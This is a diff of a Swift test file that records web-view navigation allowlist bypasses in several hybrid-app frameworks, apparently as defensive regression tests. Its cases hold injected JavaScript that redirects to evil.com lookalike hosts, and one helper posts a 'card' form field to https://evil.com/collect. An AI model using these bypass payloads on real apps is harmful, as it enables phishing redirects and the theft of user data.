@@ -21,23 +21,8 @@ enum FrameworkHoles {
         var others: [BypassAttempts.Attack] = []
     }
 
-    static func location(_ url: String) -> String { #"location.href = "\#(url)"; true"# }
-
-    /// A link the page's script clicks: WebKit reports a link activation, as a tap would.
-    static func click(_ url: String) -> String {
-        #"Object.assign(document.createElement("a"), { href: "\#(url)" }).click(); true"#
-    }
-
-    static func formPost(_ url: String) -> String {
-        """
-        const form = Object.assign(document.createElement('form'), { method: 'post', action: '\(url)' });
-        form.appendChild(Object.assign(document.createElement('input'), { name: 'card', value: '4111' }));
-        document.body.appendChild(form); form.submit(); true
-        """
-    }
-
     static let subdomainControl = BypassAttempts.Attack(
-        name: "control: location to a subdomain", script: location("https://login.example.com/"),
+        name: "control: location to a subdomain", script: BypassAttempts.location("https://login.example.com/"),
         control: "https://login.example.com/")
 
     static let cases: [Case] = [
@@ -47,10 +32,10 @@ enum FrameworkHoles {
             holes: [
                 .init(
                     name: "server.url without a trailing slash: a longer host (row 76)",
-                    script: location("https://example.com.evil.com/")),
+                    script: BypassAttempts.location("https://example.com.evil.com/")),
                 .init(
                     name: "server.url without a trailing slash: userinfo (row 77)",
-                    script: location("https://example.com@evil.com/")),
+                    script: BypassAttempts.location("https://example.com@evil.com/")),
             ],
             others: [subdomainControl]),
         Case(
@@ -59,7 +44,7 @@ enum FrameworkHoles {
             holes: [
                 .init(
                     name: "allow-navigation https://*example.com/* allows every https host (row 34)",
-                    script: location("https://evil.com/"))
+                    script: BypassAttempts.location("https://evil.com/"))
             ],
             others: [subdomainControl]),
         Case(
@@ -68,24 +53,27 @@ enum FrameworkHoles {
             holes: [
                 .init(
                     name: "originWhitelist is a prefix: a longer host (row 8)",
-                    script: location("https://example.com.evil.com/")),
+                    script: BypassAttempts.location("https://example.com.evil.com/")),
                 .init(
                     name: "originWhitelist is a prefix: userinfo (row 9)",
-                    script: location("https://example.com@evil.com/")),
+                    script: BypassAttempts.location("https://example.com@evil.com/")),
             ],
             others: [subdomainControl]),
         Case(
             framework: .hotwireNative,
             configuration: #"{"startLocation": "https://example.com/"}"#,
             holes: [
-                .init(name: "a form post is never routed (no host check)", script: formPost("https://evil.com/collect"))
+                .init(
+                    name: "a form post is never routed (no host check)",
+                    script: BypassAttempts.formPost("https://evil.com/collect"))
             ],
             others: [
                 .init(
-                    name: "a link to another host is routed out of the web view", script: click("https://evil.com/"),
+                    name: "a link to another host is routed out of the web view",
+                    script: BypassAttempts.click("https://evil.com/"),
                     clicksLink: true),
                 .init(
-                    name: "control: a link to the start host", script: click("https://example.com/next"),
+                    name: "control: a link to the start host", script: BypassAttempts.click("https://example.com/next"),
                     control: "https://example.com/next"),
             ]),
     ]
